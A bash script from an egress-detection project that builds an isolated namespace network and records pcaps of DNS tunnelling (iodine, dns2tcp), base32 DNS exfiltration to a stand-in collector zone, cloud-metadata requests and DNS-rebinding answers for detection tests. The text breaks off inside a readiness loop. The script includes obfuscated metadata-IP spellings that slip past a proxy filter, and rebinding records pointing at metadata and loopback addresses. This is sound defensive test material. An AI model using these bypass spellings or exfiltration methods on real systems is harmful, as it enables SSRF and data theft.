#!/bin/bash
# record_detect.sh - record the detection suite's captures from real tools (iodine,
# dns2tcp, dig, curl, swaks, openssl, kdig, ping) into pcaps/detect/*.pcap
#
# README
#   sudo pcaps/record_detect.sh [OUTDIR]       (default: pcaps/detect beside this script)
#
# Needs root, iproute2, ethtool, dnsmasq, dig (bind9-dnsutils), kdig (knot-dnsutils),
# iodine, dns2tcp, swaks, nginx, tinyproxy, curl, openssl, ping (iputils-ping), nc (netcat-openbsd),
# python3, dumpcap and tshark (wireshark-common, tshark). The rules that go with the
# captures are tests/detect/sandbox.yaml; tests/detect/README.md lists what each
# capture holds and the alerts it should raise.
#
# It builds a private seven-namespace network and nothing else:
#   ew-det-agent   10.99.0.10/24  fd00:99::10/64   the sandboxed agent     veth ew-det-a
#   ew-det-proxy   10.99.0.2/24   tinyproxy :8080  the egress proxy        veth ew-det-p
#   ew-det-dns     10.99.0.53/24  dnsmasq :53      the sandbox's resolver  veth ew-det-d
#   ew-det-iod     10.99.0.60/24  iodined :53      "outside": iodine server, tunnel
#                                                  network 10.99.0.192/27 on its dns0
#                                                                          veth ew-det-i
#   ew-det-d2t     10.99.0.61/24  dns2tcpd :53     "outside": dns2tcp server, resource
#                                                  "sink" = a python sink on 127.0.0.1:7777
#                                                                          veth ew-det-t
#   ew-det-server  10.99.0.80/24  fd00:99::80/64   "outside": nginx :80 :443 :853, a
#                  169.254.169.254/32              WebSocket responder behind nginx, an
#                  fd00:ec2::254/128               SMTP responder :25, an exfil collector
#                                                  DNS server :53, and the fake metadata
#                                                  service (nginx on 169.254.169.254:80
#                                                  and [fd00:ec2::254]:80)  veth ew-det-s
#   ew-det-switch  a bridge ew-det-br joining the other ends ew-det-w{a,p,d,i,t,s}
# The rules' sandbox is 10.99.0.0/28 and fd00:99::/121 (agent and proxy inside, the
# resolver allowed, the "outside" hosts .60-.80 and fd00:99::80 outside it).
# Every veth is created with both ends already inside these namespaces; the root
# namespace's interfaces are not touched. No default route, no NAT, no link to the
# host's interfaces: the only routes are the on-link 10.99.0.0/24 and fd00:99::/64,
# plus 169.254.169.254/32 on-link in the agent and the proxy, fd00:ec2::254/128 on-link
# in the agent, and the iodine tunnel's 10.99.0.192/27 on dns0 in the agent and in
# ew-det-iod. IPv6 runs only in the agent and the server, without router advertisements
# or link-local addresses. Offloads (checksum, TSO/GSO/GRO) are off on every veth.
#
# dnsmasq (the resolver) answers from local records only (--no-resolv --no-hosts) and
# forwards exactly three zones, like a sandbox resolver that recurses for anything:
#   t.example-tunnel.test       -> 10.99.0.60 (iodined)
#   dns2tcp.example-tunnel.test -> 10.99.0.61 (dns2tcpd)
#   exfil-test.example          -> 10.99.0.80 (a python collector that answers TXT "ok")
# so every tunnel runs agent -> resolver -> tunnel server. The captures are taken on
# the agent's veth, where egresswatch watches; only the agent <-> resolver leg is in them.
#
# Captures (dumpcap on the agent's veth, one file each, each stopping by itself after
# 60 s, benign after 120 s):
#   iodine.pcap        iodine -f -r (no raw mode) through the resolver to iodined for
#                      t.example-tunnel.test; once its tunnel is up, 3 pings and 4 KB of
#                      random data over TCP through the tunnel (nc to a sink behind
#                      iodined); the client is stopped ~10 s after the tunnel came up
#   dns2tcp.pcap       dns2tcpc (stdin mode) to the "sink" resource of dns2tcpd for
#                      dns2tcp.example-tunnel.test, sending a 4 KB file
#   dig_base32.pcap    30 dig TXT queries <base32 chunk>.x.exfil-test.example carrying a
#                      1050-byte text file (56-character chunks)
#   dig_slow.pcap      60 dig TXT queries <3 x 63 base32 chars>.s.exfil-test.example
#                      carrying about 7 KB of random data, recorded in a few seconds and
#                      then RETIMED (see "slow exfiltration" below) to one query a minute
#   metadata.pcap      curl to 169.254.169.254 directly (IMDSv2 token PUT, GET with the
#                      token, Metadata-Flavor: Google), through the proxy (absolute URI;
#                      tinyproxy filters 169.254.169.254 and metadata.google.internal by
#                      name, so these get its 403), raw requests (python sockets, exact
#                      bytes) with the obfuscated spellings 2852039166, 0xA9FEA9FE,
#                      0251.0376.0251.0376, 169.254.43518 and [::ffff:169.254.169.254] in
#                      the absolute URI to the proxy and in the Host header direct, curl -g
#                      to [fd00:ec2::254] over IPv6, and dig for metadata.google.internal
#   rebind.pcap        dig via the resolver for public-looking names that dnsmasq answers
#                      with 169.254.169.254, fd00:ec2::254, ::ffff:169.254.169.254,
#                      10.99.0.100 and 127.0.0.1, and one control name (192.0.2.66)
#   icmp.pcap          ping -c 3 (56 bytes) and ping -s 1200 -c 10 -i 0.2 -p PATTERN to
#                      10.99.0.80
#   websocket.pcap     a WebSocket upgrade (python socket client) directly to
#                      10.99.0.80:80/ws: 101, one echoed frame, close
#   smtp.pcap          swaks to 10.99.0.80:25 (EHLO, MAIL, RCPT, DATA, QUIT against a
#                      python SMTP responder) and to 10.99.0.80:587 (nothing listens: RST)
#   dns_over_tcp.pcap  dig +tcp via the resolver (3 queries)
#   direct_tls.pcap    openssl s_client to 10.99.0.80:443 with SNI api.outside-test.example
#                      and with SNI dns.google (ALPN h2), kdig +tls to 10.99.0.80:853 (a TLS
#                      listener that is not a DNS server: handshake, then a failed query)
#   benign.pcap        2,101 ordinary DNS queries over 393 distinct names (dig -f
#                      batches of 150, 2 s apart, +tries=1 +time=1) answered by dnsmasq's
#                      local records, and 3 HTTP requests through the proxy to 10.99.0.80
#
# Slow exfiltration: one query a minute for an hour cannot be recorded in a sensible
# time. dig_slow.pcap is recorded at full speed and then its pcap record headers are
# rewritten by a small python step (no scapy needed): query i and the packets that
# follow it until the next query are moved to first_ts + 60 s * i, keeping their offsets
# from that query. Packet bytes are unchanged (the script checks this); only the
# timestamps in the record headers change.
#
# Every client is bounded (curl --max-time 5, timeout 10..40 around the others, dig
# +tries=1 +time=1..2, ping -w, python socket timeouts); every loop that waits is
# bounded. A second dumpcap on all six switch ports records everything (snaplen 128,
# stopping by itself after 600 s); at the end tshark checks that no packet went to an
# address other than these hosts' (the run fails otherwise). A trap kills every process
# started here (by pid, then whatever is left inside these namespaces) and deletes the
# namespaces on any exit.
#
# The captures are real traffic, so ids, ports, keys and timestamps differ on every
# run: record once and commit the files; the tests then pin what they raise.
set -eu

HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/../tests/lib/netns.sh"
OUTDIR=${1:-$HERE/detect}
NS_A=ew-det-agent
NS_P=ew-det-proxy
NS_D=ew-det-dns
NS_I=ew-det-iod
NS_T=ew-det-d2t
NS_S=ew-det-server
NS_W=ew-det-switch
ALL_NS="$NS_A $NS_P $NS_D $NS_I $NS_T $NS_S $NS_W"
IF_A=ew-det-a
IF_P=ew-det-p
IF_D=ew-det-d
IF_I=ew-det-i
IF_T=ew-det-t
IF_S=ew-det-s
BR=ew-det-br
IP_A=10.99.0.10
IP_P=10.99.0.2
IP_D=10.99.0.53
IP_I=10.99.0.60
IP_T=10.99.0.61
IP_S=10.99.0.80
IP_MD=169.254.169.254
IP6_A=fd00:99::10
IP6_S=fd00:99::80
IP6_MD=fd00:ec2::254
TUN_NET=10.99.0.192/27 # the iodine tunnel; iodined is .193, the agent gets .194
TUN_SRV=10.99.0.193
IOD_ZONE=t.example-tunnel.test
IOD_PASS=ew-detect-iodine
D2T_ZONE=dns2tcp.example-tunnel.test
D2T_KEY=ew-detect-dns2tcp
EXFIL=exfil-test.example
OUT_D=outside-test.example
PROXY=http://$IP_P:8080

netns_init record_detect.sh /tmp/ew-record-detect.XXXXXX "$ALL_NS" # TMP, PIDS, the trap
NETNS_PIDFILES=1 # the cleanup also stops the pids in $TMP/*.pid (dnsmasq forks)

[ "$(id -u)" -eq 0 ] || { echo "record_detect.sh: must run as root" >&2; exit 2; }
for t in ip ethtool dnsmasq dig kdig iodine iodined dns2tcpc dns2tcpd swaks nginx tinyproxy \
	curl openssl ping nc python3 dumpcap tshark timeout base32; do
	command -v "$t" >/dev/null || { echo "record_detect.sh: $t not found" >&2; exit 2; }
done
[ -c /dev/net/tun ] || { echo "record_detect.sh: /dev/net/tun missing (iodine needs it)" >&2; exit 2; }
chmod 755 "$TMP" # tinyproxy and dns2tcpd drop to nobody
mkdir -p "$OUTDIR"

# leftovers of an interrupted run
netns_clear_leftovers

# --- the network ---------------------------------------------------------------------
netns_create $ALL_NS
netns_ipv4_only "$NS_P" "$NS_D" "$NS_I" "$NS_T" "$NS_W"
netns_ipv6_static "$NS_A" "$NS_S" # IPv6 on fd00:99::/64 only: no RA, no link-local address
NETNS_OFFLOAD_OFF=1
netns_switch "$NS_W" "$BR"
netns_host "$NS_A" "$IF_A" ew-det-wa "$IP_A/24" "$IP6_A/64"
netns_host "$NS_P" "$IF_P" ew-det-wp "$IP_P/24"
netns_host "$NS_D" "$IF_D" ew-det-wd "$IP_D/24"
netns_host "$NS_I" "$IF_I" ew-det-wi "$IP_I/24"
netns_host "$NS_T" "$IF_T" ew-det-wt "$IP_T/24"
netns_host "$NS_S" "$IF_S" ew-det-ws "$IP_S/24" "$IP_MD/32" "$IP6_S/64" "$IP6_MD/128"
ip -n "$NS_A" route add "$IP_MD/32" dev "$IF_A" src "$IP_A"
ip -n "$NS_A" route add "$IP6_MD/128" dev "$IF_A" src "$IP6_A"
ip -n "$NS_P" route add "$IP_MD/32" dev "$IF_P" src "$IP_P"

# audit: everything on the six switch ports from here on, for the address check at the
# end (600 s at most)
netns_audit_start 600

# --- helper programs -------------------------------------------------------------------
# A WebSocket responder: handshake (RFC 6455 accept key), echo one frame, close.
# At most 4 connections, 5 s per socket, 300 s in all.
cat >"$TMP/ws_server.py" <<'EOF'
import base64, hashlib, socket, sys, time
GUID = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
def recv_exact(c, n):
    b = b""
    while len(b) < n:
        d = c.recv(n - len(b))
        if not d:
            raise OSError("eof")
        b += d
    return b
def handle(c):
    head = b""
    while b"\r\n\r\n" not in head and len(head) < 8192:
        d = c.recv(4096)
        if not d:
            return
        head += d
    key = None
    for line in head.split(b"\r\n")[1:]:
        k, _, v = line.partition(b":")
        if k.strip().lower() == b"sec-websocket-key":
            key = v.strip()
    if key is None:
        c.sendall(b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        return
    acc = base64.b64encode(hashlib.sha1(key + GUID).digest())
    c.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n"
              b"Connection: Upgrade\r\nSec-WebSocket-Accept: " + acc + b"\r\n\r\n")
    b0, b1 = recv_exact(c, 2)
    n = b1 & 0x7F
    if n >= 126:
        return
    mask = recv_exact(c, 4) if b1 & 0x80 else b"\0\0\0\0"
    data = bytes(x ^ mask[i % 4] for i, x in enumerate(recv_exact(c, n)))
    c.sendall(bytes([0x81, n]) + data)
    c.sendall(b"\x88\x02\x03\xe8")
    try:
        c.recv(64)
    except OSError:
        pass
srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("127.0.0.1", 8765))
srv.listen(4)
open(sys.argv[1], "w").close()
deadline = time.monotonic() + 300
for _ in range(4):
    left = deadline - time.monotonic()
    if left <= 0:
        break
    srv.settimeout(left)
    try:
        c, _ = srv.accept()
    except OSError:
        break
    c.settimeout(5)
    try:
        handle(c)
    except OSError:
        pass
    finally:
        c.close()
EOF

# An SMTP responder on ADDR:25: 220 banner, EHLO/HELO, MAIL, RCPT, DATA (until
# <CRLF>.<CRLF>), RSET, NOOP, QUIT. At most 4 sessions, 10 s per socket, 300 s in all.
cat >"$TMP/smtp_server.py" <<'EOF'
import socket, sys, time
addr, ready = sys.argv[1], sys.argv[2]
srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind((addr, 25))
srv.listen(4)
open(ready, "w").close()
def session(c):
    f = c.makefile("rb")
    def say(s):
        c.sendall(s.encode() + b"\r\n")
    say("220 mail.outside-test.example ESMTP ew-test")
    while True:
        line = f.readline(4096)
        if not line:
            return
        cmd = line.strip().upper()
        if cmd.startswith(b"EHLO"):
            say("250-mail.outside-test.example hello")
            say("250-PIPELINING")
            say("250-SIZE 1048576")
            say("250 8BITMIME")
        elif cmd.startswith(b"HELO"):
            say("250 mail.outside-test.example")
        elif cmd.startswith(b"MAIL FROM") or cmd.startswith(b"RCPT TO") or cmd in (b"RSET", b"NOOP"):
            say("250 OK")
        elif cmd == b"DATA":
            say("354 End data with <CR><LF>.<CR><LF>")
            n = 0
            while True:
                l = f.readline(65536)
                if not l or l in (b".\r\n", b".\n"):
                    break
                n += len(l)
            say("250 OK queued as EW%d" % n)
        elif cmd == b"QUIT":
            say("221 Bye")
            return
        else:
            say("502 Command not implemented")
deadline = time.monotonic() + 300
for _ in range(4):
    left = deadline - time.monotonic()
    if left <= 0:
        break
    srv.settimeout(left)
    try:
        c, _ = srv.accept()
    except OSError:
        break
    c.settimeout(10)
    try:
        session(c)
    except OSError:
        pass
    finally:
        c.close()
EOF

# The exfiltration collector: an authoritative server for whatever the resolver
# forwards to it (exfil-test.example). Answers TXT "ok" (TTL 0) to TXT questions,
# NOERROR without answers to anything else, and logs every question name.
# 600 s at most; 2 s receive timeout per loop.
cat >"$TMP/exfil_dns.py" <<'EOF'
import socket, struct, sys, time
addr, log, ready = sys.argv[1], sys.argv[2], sys.argv[3]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((addr, 53))
s.settimeout(2)
open(ready, "w").close()
out = open(log, "a", buffering=1)
deadline = time.monotonic() + 600
while time.monotonic() < deadline:
    try:
        q, peer = s.recvfrom(4096)
    except socket.timeout:
        continue
    if len(q) < 17:
        continue
    qid, flags, qd = struct.unpack("!HHH", q[:6])
    if flags & 0x8000 or qd != 1:
        continue
    i, labels = 12, []
    while i < len(q) and q[i] != 0 and len(labels) < 128:
        n = q[i]
        if n > 63:
            break
        labels.append(q[i + 1:i + 1 + n].decode("ascii", "replace"))
        i += 1 + n
    if i + 5 > len(q) or q[i] != 0:
        continue
    qtype = struct.unpack("!H", q[i + 1:i + 3])[0]
    question = q[12:i + 5]
    out.write("%s %d\n" % (".".join(labels), qtype))
    ans = b""
    if qtype == 16:
        ans = b"\xc0\x0c" + struct.pack("!HHIH", 16, 1, 0, 3) + b"\x02ok"
    rflags = 0x8400 | (flags & 0x0100)  # QR, AA, RD copied
    resp = struct.pack("!HHHHHH", qid, rflags, 1, 1 if ans else 0, 0, 0) + question + ans
    s.sendto(resp, peer)
EOF

# The tunnels' far end (the dns2tcp resource, and a listener behind iodined's tunnel
# address): reads what the tunnel brings (until EOF, 4096 bytes or 10 s idle) and
# answers with one line naming the byte count and a digest. At most 4 connections,
# 300 s in all.
cat >"$TMP/sink.py" <<'EOF'
import hashlib, socket, sys, time
srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind((sys.argv[2], int(sys.argv[3])))
srv.listen(4)
open(sys.argv[1], "w").close()
deadline = time.monotonic() + 300
for _ in range(4):
    left = deadline - time.monotonic()
    if left <= 0:
        break
    srv.settimeout(left)
    try:
        c, _ = srv.accept()
    except OSError:
        break
    c.settimeout(10)
    got = b""
    try:
        while len(got) < 4096:
            d = c.recv(4096)
            if not d:
                break
            got += d
        c.sendall(b"sink: received %d bytes sha256 %s\n" % (len(got), hashlib.sha256(got).hexdigest()[:16].encode()))
        print("received %d bytes" % len(got), flush=True)
    except OSError:
        pass
    finally:
        c.close()
EOF

# Agent-side clients curl cannot be: raw HTTP with an exact request-target and Host
# (curl normalises numeric IPv4 spellings), and a WebSocket session. 5 s socket timeouts.
cat >"$TMP/client.py" <<'EOF'
import socket, sys, time
def read_all(s, until=None, limit=65536):
    buf = b""
    end = time.monotonic() + 5
    while len(buf) < limit and time.monotonic() < end:
        try:
            d = s.recv(4096)
        except (socket.timeout, ConnectionResetError):
            break
        if not d:
            break
        buf += d
        if until is not None and until in buf:
            break
    return buf
mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
if mode == "raw":  # raw HOST PORT METHOD TARGET HOSTHDR [HEADER...]
    method, target, vhost = sys.argv[4], sys.argv[5], sys.argv[6]
    extra = "".join(h + "\r\n" for h in sys.argv[7:])
    req = ("%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n%s"
           "Connection: close\r\n\r\n" % (method, target, vhost, extra)).encode()
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(req)
    r = read_all(s)
    s.close()
    print("raw %s %s (Host %s): %s" % (method, target, vhost,
                                      r.split(b"\r\n", 1)[0].decode("latin-1") or "no answer"))
elif mode == "ws":  # ws HOST PORT VHOST
    vhost = sys.argv[4]
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(b"GET /ws HTTP/1.1\r\nHost: %s\r\nUser-Agent: ew-ws/1\r\nUpgrade: websocket\r\n"
              b"Connection: Upgrade\r\nSec-WebSocket-Key: x3JJHMbDL1EzLkh9GBhXDw==\r\n"
              b"Sec-WebSocket-Version: 13\r\nOrigin: http://%s\r\n\r\n" % (vhost.encode(), vhost.encode()))
    head = read_all(s, until=b"\r\n\r\n")
    print("ws: " + head.split(b"\r\n", 1)[0].decode("latin-1"))
    if b" 101 " in head.split(b"\r\n", 1)[0]:
        msg, mask = b"status: agent ready, 3 files staged", b"\x5a\x17\xc3\x08"
        s.sendall(bytes([0x81, 0x80 | len(msg)]) + mask +
                  bytes(x ^ mask[i % 4] for i, x in enumerate(msg)))
        r = read_all(s, until=b"\x88\x02")
        print("ws: %d bytes back" % len(r))
        s.sendall(b"\x88\x82" + mask + bytes(x ^ mask[i] for i, x in enumerate(b"\x03\xe8")))
        read_all(s)
    s.close()
EOF

# Slow exfiltration retiming (see the header): rewrites only record-header timestamps.
cat >"$TMP/retime.py" <<'EOF'
import struct, sys
src, dst, agent, step = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
agent_b = bytes(int(x) for x in agent.split("."))
data = open(src, "rb").read()
magic = data[:4]
if magic in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1"):
    e = "<"
elif magic in (b"\xa1\xb2\xc3\xd4", b"\xa1\xb2\x3c\x4d"):
    e = ">"
else:
    sys.exit("retime: not a classic pcap file")
frac = 1000000000 if magic in (b"\x4d\x3c\xb2\xa1", b"\xa1\xb2\x3c\x4d") else 1000000
linktype = struct.unpack(e + "I", data[20:24])[0]
if linktype != 1:
    sys.exit("retime: link type %d, want Ethernet" % linktype)
out = bytearray(data[:24])
off, recs = 24, []
while off + 16 <= len(data):
    sec, sub, incl, orig = struct.unpack(e + "IIII", data[off:off + 16])
    recs.append((sec * frac + sub, data[off + 16:off + 16 + incl], orig))
    off += 16 + incl
def is_query(p):  # Ethernet/IPv4/UDP from the agent to port 53
    if len(p) < 42 or p[12:14] != b"\x08\x00" or p[23] != 17 or p[26:30] != agent_b:
        return False
    ihl = (p[14] & 15) * 4
    return struct.unpack("!H", p[14 + ihl + 2:14 + ihl + 4])[0] == 53
base = recs[0][0]
slot, slot_start, nq = -1, base, 0
for ts, pkt, orig in recs:
    if is_query(pkt):
        slot += 1
        slot_start = ts
        nq += 1
    nts = base + max(slot, 0) * step * frac + (ts - slot_start if slot >= 0 else ts - base)
    out += struct.pack(e + "IIII", nts // frac, nts % frac, len(pkt), orig) + pkt
open(dst, "wb").write(out)
print("retime: %d packets, %d queries, %d s apart" % (len(recs), nq, step))
EOF

# The benign DNS workload: ~400 distinct names, ~2,100 questions, and the dnsmasq
# records that answer them. Deterministic (seeded).
cat >"$TMP/benign.py" <<'EOF'
import random, sys
qfile, conf = sys.argv[1], sys.argv[2]
rnd = random.Random(20261129)
subs = ["www", "mail", "api", "cdn", "static", "img", "app", "portal", "auth", "docs",
        "status", "blog", "shop", "m", "assets", "login", "support", "news", "search", "git"]
adj = ["north", "blue", "silver", "red", "green", "bright", "quiet", "rapid", "golden", "open",
       "clear", "swift", "urban", "coastal", "alpine", "prairie", "harbor", "summit", "maple", "cedar"]
noun = ["wind", "river", "stone", "field", "bridge", "forge", "works", "labs", "media", "bank",
        "books", "travel", "foods", "health", "energy", "motors", "games", "tools", "cloud", "press"]
names = set()
recs = []
for base, v4, v6 in (("example.com", "192.0.2.10", "2001:db8::10"),
                     ("example.org", "192.0.2.11", "2001:db8::11"),
                     ("example.net", "192.0.2.12", "2001:db8::12")):
    recs += ["address=/%s/%s" % (base, v4), "address=/%s/%s" % (base, v6)]
    names.add(base)
    for s in subs:
        names.add("%s.%s" % (s, base))
doms = set()
while len(doms) < 60:
    doms.add("%s%s.test" % (rnd.choice(adj), rnd.choice(noun)))
for i, d in enumerate(sorted(doms)):
    recs += ["address=/%s/198.51.100.%d" % (d, i + 1), "address=/%s/2001:db8:100::%x" % (d, i + 1)]
    names.add(d)
    for s in rnd.sample(subs, 4):
        names.add("%s.%s" % (s, d))
look = ["d1a2b3c4d5e6f7.cloudfront.net"]
for _ in range(7):
    look.append("d%s.cloudfront.net" % "".join(rnd.choice("0123456789abcdefghijklmnopqrstuvwxyz") for _ in range(13)))
look += ["r4---sn-ab5l6nzr.googlevideo.com", "rr1---sn-4g5e6nsz.googlevideo.com",
         "rr3---sn-q4flrnek.googlevideo.com", "r2---sn-5hne6nsk.googlevideo.com"]
look += ["3f2a1c9e-7b4d-4e8a-9c1f-2d3e4f5a6b7c.api.example.com",
         "a7c1e5d2-9f3b-4c6a-8e1d-0b2c3d4e5f60.api.example.com",
         "0d9e8f7a-6b5c-4d3e-a2f1-e0d9c8b7a6f5.api.example.com"]
look += ["the-quick-brown-fox-jumps-over-the-lazy-dog.blog.example.net",
         "customer-support-knowledge-base.help.example.org",
         "international-shipping-rates-calculator.shop.example.com",
         "quarterly-earnings-report-2026-q3.investors.example.com",
         "how-to-configure-your-home-router.docs.example.org",
         "kubernetes-cluster-upgrade-checklist.wiki.example.net"]
names.update(look)
recs += ["address=/cloudfront.net/192.0.2.30", "address=/cloudfront.net/2001:db8::30",
         "address=/googlevideo.com/192.0.2.31", "address=/googlevideo.com/2001:db8::31"]
special = [("_dmarc.example.org", "TXT"), ("selector1._domainkey.example.com", "TXT"),
           ("example.com", "TXT"), ("example.com", "MX"), ("example.org", "MX"),
           ("_sip._tcp.example.com", "SRV"), ("_xmpp-client._tcp.example.org", "SRV"),
           ("_imaps._tcp.example.net", "SRV"),
           ("4.3.2.1.in-addr.arpa", "PTR"), ("10.2.0.192.in-addr.arpa", "PTR"),
           ("30.2.0.192.in-addr.arpa", "PTR"), ("1.100.51.198.in-addr.arpa", "PTR")]
recs += ['txt-record=_dmarc.example.org,"v=DMARC1; p=reject; rua=mailto:dmarc@example.org"',
         'txt-record=selector1._domainkey.example.com,"v=DKIM1; k=rsa; '
         'p=MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQC5Q1nZ3o8a3V0V9hYbq2kX7sQZ1p3cR0yT2m9Lw4uJ8d'
         'Kq7v1bN6eE5fA0gH3iJ2kL4mN8oP9qR1sT3uV5wX7yZ0aB2cD4eF6gH8iJ0kL2mN4oP6qR8sT0uV2wX4yZ6'
         'aB8cD0eF2gH4iJ6kL8mN0oP2qR4sT6uV8wIDAQAB"',
         'txt-record=example.com,"v=spf1 include:_spf.example.com -all"',
         "mx-host=example.com,mail.example.com,10", "mx-host=example.org,mail.example.org,10",
         "srv-host=_sip._tcp.example.com,sip.example.com,5060,10,60",
         "srv-host=_xmpp-client._tcp.example.org,xmpp.example.org,5222,5,0",
         "srv-host=_imaps._tcp.example.net,mail.example.net,993,0,1",
         "ptr-record=4.3.2.1.in-addr.arpa,host-1-2-3-4.example.net",
         "ptr-record=10.2.0.192.in-addr.arpa,www.example.com",
         "ptr-record=30.2.0.192.in-addr.arpa,d1a2b3c4d5e6f7.cloudfront.net",
         "ptr-record=1.100.51.198.in-addr.arpa,mail.%s" % sorted(doms)[0]]
names = sorted(names)
qs = []
for n in names:
    qs.append((n, "A"))
    if rnd.random() < 0.7:
        qs.append((n, "AAAA"))
qs += special
# repeats: a few popular names asked often (Zipf-like), as caches expire
pop = rnd.sample(names, 40)
while len(qs) < 2100:
    i = min(int(rnd.paretovariate(1.2)) - 1, len(pop) - 1)
    qs.append((pop[i], rnd.choice(["A", "A", "AAAA"])))
    if rnd.random() < 0.02:
        qs.append(rnd.choice(special))
rnd.shuffle(qs)
with open(qfile, "w") as f:
    for n, t in qs:
        f.write("%s %s\n" % (n, t))
with open(conf, "a") as f:
    for r in recs:
        f.write(r + "\n")
print("benign: %d questions over %d distinct names" % (len(qs), len(set(n for n, _ in qs))))
EOF

# --- the servers -----------------------------------------------------------------------
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 \
	-keyout "$TMP/key.pem" -out "$TMP/cert.pem" -subj "/CN=api.$OUT_D" \
	-addext "subjectAltName=DNS:*.$OUT_D,IP:$IP_S" 2>"$TMP/openssl-req.err"

netns_nginx_conf nginx "$TMP/nginx.pidfile" <<EOF
	server {
		listen $IP_S:80;
		listen $IP_S:443 ssl http2;
		listen $IP_S:853 ssl;
		server_name www.$OUT_D;
		ssl_certificate $TMP/cert.pem;
		ssl_certificate_key $TMP/key.pem;
		ssl_protocols TLSv1.2 TLSv1.3;
		location = / { return 200 "egresswatch outside test server\n"; }
		location = /ws {
			proxy_pass http://127.0.0.1:8765;
			proxy_http_version 1.1;
			proxy_set_header Upgrade \$http_upgrade;
			proxy_set_header Connection "upgrade";
			proxy_read_timeout 5s;
			proxy_connect_timeout 2s;
		}
		location / { return 200 "ok \$request_uri\n"; }
	}
	server {
		listen $IP_MD:80;
		listen [$IP6_MD]:80;
		server_name metadata.google.internal;
		location /computeMetadata/ {
			if (\$http_metadata_flavor != "Google") { return 403; }
			return 200 "vm-1.c.project.internal\n";
		}
		location = /latest/api/token { return 200 "AQAEAEgYm9ndXMtdG9rZW4=\n"; }
		location /latest/meta-data/ { return 200 "ami-id\ninstance-id\niam/\n"; }
		location / { return 404; }
	}
EOF

# tinyproxy filters the metadata service by its usual names, as a careful operator
# would; the numeric spellings are not in the list (and get through: the point of
# metadata.pcap).
cat >"$TMP/filter" <<EOF
169\.254\.169\.254
metadata\.google\.internal
EOF
cat >"$TMP/tinyproxy.conf" <<EOF
User nobody
Group nogroup
Port 8080
Listen $IP_P
Timeout 10
LogFile "$TMP/tinyproxy.log"
LogLevel Info
MaxClients 8
Allow 10.99.0.0/24
ConnectPort 443
DisableViaHeader Yes
Filter "$TMP/filter"
FilterDefaultDeny No
EOF
touch "$TMP/tinyproxy.log"
chmod 666 "$TMP/tinyproxy.log"
chmod 644 "$TMP/filter" "$TMP/tinyproxy.conf"

cat >"$TMP/dns2tcpd.conf" <<EOF
listen = $IP_T
port = 53
user = nobody
domain = $D2T_ZONE
key = $D2T_KEY
resources = sink:127.0.0.1:7777
debug_level = 1
EOF
chmod 644 "$TMP/dns2tcpd.conf"

# dnsmasq: local data, three forwarded zones (the tunnels and the exfil collector),
# the rebinding answers, the benign workload's records (appended by benign.py)
cat >"$TMP/dnsmasq.conf" <<EOF
no-resolv
no-hosts
no-poll
user=root
group=root
listen-address=$IP_D
bind-interfaces
port=53
pid-file=$TMP/dnsmasq.pid
log-queries
log-facility=$TMP/dnsmasq.log
server=/$IOD_ZONE/$IP_I
server=/$D2T_ZONE/$IP_T
server=/$EXFIL/$IP_S
address=/rebind.attacker-test.example/$IP_MD
address=/rebind.attacker-test.example/$IP6_MD
address=/mapped.attacker-test.example/::ffff:$IP_MD
address=/intranet.attacker-test.example/10.99.0.100
address=/loopback.attacker-test.example/127.0.0.1
address=/www.attacker-test.example/192.0.2.66
host-record=metadata.google.internal,$IP_MD
EOF
python3 "$TMP/benign.py" "$TMP/benign.q" "$TMP/dnsmasq.conf" >"$TMP/benign.log"

ip netns exec "$NS_D" dnsmasq --conf-file="$TMP/dnsmasq.conf" 2>"$TMP/dnsmasq.err"
netns_bg "$NS_I" iodined -f -c -l "$IP_I" -p 53 -P "$IOD_PASS" -d ew-dns0 \
	"$TUN_SRV/27" "$IOD_ZONE" >"$TMP/iodined.log" 2>&1
IODINED_PID=$NETNS_PID
netns_bg "$NS_T" python3 "$TMP/sink.py" "$TMP/sink.ready" 127.0.0.1 7777 >"$TMP/sink.log" 2>&1
# iodined's side of the tunnel: 0.0.0.0:7000 in ew-det-iod, reached as 10.99.0.193:7000
netns_bg "$NS_I" python3 "$TMP/sink.py" "$TMP/iod-sink.ready" 0.0.0.0 7000 >"$TMP/iod-sink.log" 2>&1
netns_bg "$NS_T" dns2tcpd -F -f "$TMP/dns2tcpd.conf" >"$TMP/dns2tcpd.log" 2>&1
netns_bg "$NS_S" python3 "$TMP/ws_server.py" "$TMP/ws.ready" >"$TMP/ws.log" 2>&1
netns_bg "$NS_S" python3 "$TMP/smtp_server.py" "$IP_S" "$TMP/smtp.ready" >"$TMP/smtp.log" 2>&1
netns_bg "$NS_S" python3 "$TMP/exfil_dns.py" "$IP_S" "$TMP/exfil-names.log" "$TMP/exfil.ready" \
	>"$TMP/exfil.log" 2>&1
netns_bg "$NS_S" nginx -e "$TMP/nginx.log" -c "$TMP/nginx.conf" -p "$TMP/ngx" \
	>"$TMP/nginx.err" 2>&1
netns_bg "$NS_P" tinyproxy -d -c "$TMP/tinyproxy.conf" >"$TMP/tinyproxy.err" 2>&1

ready=
for _ in $(seq 1 50); do
	if [ -e "$TMP/ws.ready" ] && [ -e "$TMP/smtp.ready" ] && [ -e "$TMP/exfil.ready" ] &&
		[ -e "$TMP/sink.ready" ] && [ -e "$TMP/iod-sink.ready" ] &&
		ip netns exec "$NS_A" dig @"$IP_D" +tries=1 +time=1 +short www.example.com A 2>/dev/null | grep -q 192.0.2.10 &&
